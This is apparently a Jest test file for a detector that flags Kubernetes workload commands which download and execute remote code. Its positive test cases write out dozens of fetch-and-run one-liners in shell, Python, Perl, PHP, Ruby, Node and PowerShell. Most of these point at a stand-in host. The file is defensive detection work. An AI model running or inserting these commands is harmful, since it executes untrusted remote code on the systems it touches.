import { describe, expect, it } from '@jest/globals';

import type { Workload } from '../../workload/types.js';
import { downloadExec } from './download-exec.js';
import { C0, argv, cronJob, sh } from '../../../test/support/workloads.js';

function paths(workload: Workload): string[] {
  return downloadExec.check(workload, undefined).map((evidence) => evidence.path);
}

describe('download-exec', () => {
  it.each<[string, Workload, string[]]>([
    ['curl | sh', sh('curl -fsSL http://x.y/i.sh | sh'), [`${C0}.command[2]`]],
    ['curl | sudo bash -s', sh('curl -s http://x.y/i | sudo bash -s -- --flag'), [`${C0}.command[2]`]],
    ['wget -O- | sh', sh('wget -O- http://x.y/i | sh'), [`${C0}.command[2]`]],
    ['wget -qO- | bash', sh('wget -qO- http://x.y/i | /bin/bash'), [`${C0}.command[2]`]],
    ['busybox wget | sh', sh('busybox wget -q -O - http://x.y/i | sh'), [`${C0}.command[2]`]],
    ['curl | python3 -', sh('curl -s http://x.y/p.py | python3 -'), [`${C0}.command[2]`]],
    ['curl | perl', sh('curl -s http://x.y/p.pl | perl'), [`${C0}.command[2]`]],
    ['curl | gunzip | sh', sh('curl -s http://x.y/p.gz | gunzip | sh'), [`${C0}.command[2]`]],
    [
      'get.helm.sh installer (decided: fires)',
      sh('curl -fsSL https://get.helm.sh/get-helm-3 | bash'),
      [`${C0}.command[2]`],
    ],
    ['sh -c "$(curl …)"', sh('sh -c "$(curl -fsSL http://x.y/i)"'), [`${C0}.command[2]`]],
    ['bash -c "$(wget -qO- …)"', sh('bash -c "$(wget -qO- http://x.y/i)"'), [`${C0}.command[2]`]],
    ['eval "$(curl …)"', sh('eval "$(curl -s http://x.y/i)"'), [`${C0}.command[2]`]],
    ['bash <(curl …)', sh('bash <(curl -s http://x.y/i)'), [`${C0}.command[2]`]],
    ['. <(curl …)', sh('. <(curl -s http://x.y/i)'), [`${C0}.command[2]`]],
    ['argv sh -c $(curl)', argv('/bin/sh', '-c', '$(curl -s http://x.y/i)'), [`${C0}.command[2]`]],
    [
      'curl -o, chmod +x, run',
      sh('curl -sL -o /tmp/x http://x.y/x && chmod +x /tmp/x && /tmp/x'),
      [`${C0}.command[2]`],
    ],
    [
      'curl -sLo clustered',
      sh('curl -sLo /tmp/x http://x.y/x; chmod 755 /tmp/x; /tmp/x'),
      [`${C0}.command[2]`],
    ],
    ['curl --output=', sh('curl --output=/tmp/x http://x.y/x; sh /tmp/x'), [`${C0}.command[2]`]],
    [
      'curl -O then ./name',
      sh('cd /tmp && curl -fsSLO http://x.y/dl/kworker && chmod +x kworker && ./kworker'),
      [`${C0}.command[2]`],
    ],
    [
      'curl > file then bash file',
      sh('curl -s http://x.y/i > /tmp/i.sh; bash /tmp/i.sh'),
      [`${C0}.command[2]`],
    ],
    [
      'wget default name then run',
      sh('wget http://x.y/payload; chmod +x payload; ./payload'),
      [`${C0}.command[2]`],
    ],
    [
      'wget -O file then python',
      sh('wget -O /tmp/p.py http://x.y/p; python3 /tmp/p.py'),
      [`${C0}.command[2]`],
    ],
    ['wget -P dir', sh('wget -P /tmp http://x.y/m; chmod +x /tmp/m; /tmp/m'), [`${C0}.command[2]`]],
    [
      'python urllib exec',
      argv('python3', '-c', 'import urllib.request as u;exec(u.urlopen("http://x.y/p").read())'),
      [`${C0}.command[2]`],
    ],
    ['perl LWP eval', sh(`perl -MLWP::Simple -e 'eval(get("http://x.y/p"))'`), [`${C0}.command[2]`]],
    [
      'php file_get_contents eval',
      argv('php', '-r', 'eval(file_get_contents("http://x.y/p"));'),
      [`${C0}.command[2]`],
    ],
    [
      'ruby open-uri eval',
      argv('ruby', '-ropen-uri', '-e', 'eval(URI.open("http://x.y/p").read)'),
      [`${C0}.command[3]`],
    ],
    [
      'node https.get eval',
      argv(
        'node',
        '-e',
        'require("https").get("https://x.y/p",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))})',
      ),
      [`${C0}.command[2]`],
    ],
    [
      'pwsh iex iwr',
      argv('pwsh', '-c', 'iex (iwr http://x.y/p -UseBasicParsing).Content'),
      [`${C0}.command[2]`],
    ],
    ['/dev/tcp read piped to sh', sh('cat < /dev/tcp/h/80 | sh'), [`${C0}.command[2]`]],
    [
      'init container',
      cronJob({
        initContainers: [{ name: 'i', image: 'alpine', args: ['-c', 'curl http://x.y/i | sh'] }],
        containers: [{ name: 'c', image: 'alpine' }],
      }),
      ['spec.jobTemplate.spec.template.spec.initContainers[0].args[1]'],
    ],
    // Benign look-alikes.
    ['health check', argv('curl', '-fsS', 'http://svc/healthz'), []],
    ['apk add curl', sh('apk add --no-cache curl && curl -s http://svc/ping'), []],
    [
      'curl | python -c json',
      sh(`curl -s http://svc | python3 -c 'import json,sys;print(json.load(sys.stdin)["a"])'`),
      [],
    ],
    ['curl | tar xz', sh('curl -sL http://x.y/a.tgz | tar xz -C /opt'), []],
    ['curl | jq', sh('curl -s http://svc/api | jq .items'), []],
    ['download never run', sh('curl -sLo /tmp/report.csv http://svc/r && gzip /tmp/report.csv'), []],
    ['sh -c script file other than the download', sh('curl -o /tmp/a http://x.y/a; sh /tmp/b'), []],
    ['run before download', sh('/tmp/x; curl -o /tmp/x http://x.y/x'), []],
    ['curl | sh -c "cat > file"', sh(`curl -s http://x.y/a | sh -c 'cat > /tmp/a'`), []],
    ['eval "$(ssh-agent -s)"', sh('eval "$(ssh-agent -s)"'), []],
    [
      'python -c requests without exec',
      argv('python3', '-c', 'import requests; print(requests.get("http://svc").status_code)'),
      [],
    ],
  ])('%s', (_name, workload, expected) => {
    expect(paths(workload)).toEqual(expected);
  });
});
